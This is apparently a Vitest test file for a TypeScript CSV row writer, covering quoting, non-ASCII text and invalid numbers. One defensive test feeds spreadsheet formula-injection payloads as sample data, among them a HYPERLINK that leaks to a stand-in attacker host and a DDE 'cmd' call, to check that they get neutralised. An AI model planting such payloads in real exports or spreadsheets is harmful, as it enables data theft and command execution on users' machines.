import { describe, expect, it } from 'vitest';
import { csvLine } from './csv-line.ts';

describe('csvLine', () => {
  it('writes plain cells as they are, numbers with String, null as empty', () => {
    expect(csvLine(['a1', 0.25, 1, null, ''])).toBe('a1,0.25,1,,\n');
  });

  it('quotes a cell with a comma, a quote or a line break, doubling quotes (RFC 4180 §2.6–2.7)', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'cr\r'])).toBe(
      '"a,b","say ""hi""","two\nlines","cr\r"\n',
    );
  });

  it('keeps leading spaces and non-ASCII text unquoted', () => {
    expect(csvLine([' x', 'Zürich — §'])).toBe(' x,Zürich — §\n');
  });

  it('neutralises a text a spreadsheet would run as a formula (OWASP): an apostrophe first, then quoted', () => {
    expect(
      csvLine([
        '=HYPERLINK("http://evil.example/?leak","x")',
        "=cmd|' /C calc'!A0",
        '@SUM(A1)',
        '+1',
        '-2',
        '\tlead',
        '\rlead',
      ]),
    ).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak"",""x"")","'=cmd|' /C calc'!A0","'@SUM(A1)","'+1","'-2","'\tlead","'\rlead"\n`,
    );
  });

  it('leaves numbers and texts that only hold those characters later as they are', () => {
    expect(csvLine([-1, 0, 'a=b', 'x-1', 'mail@example.org'])).toBe('-1,0,a=b,x-1,mail@example.org\n');
  });

  it('refuses a non-finite number', () => {
    expect(() => csvLine([Number.NaN])).toThrow(RangeError);
  });
});
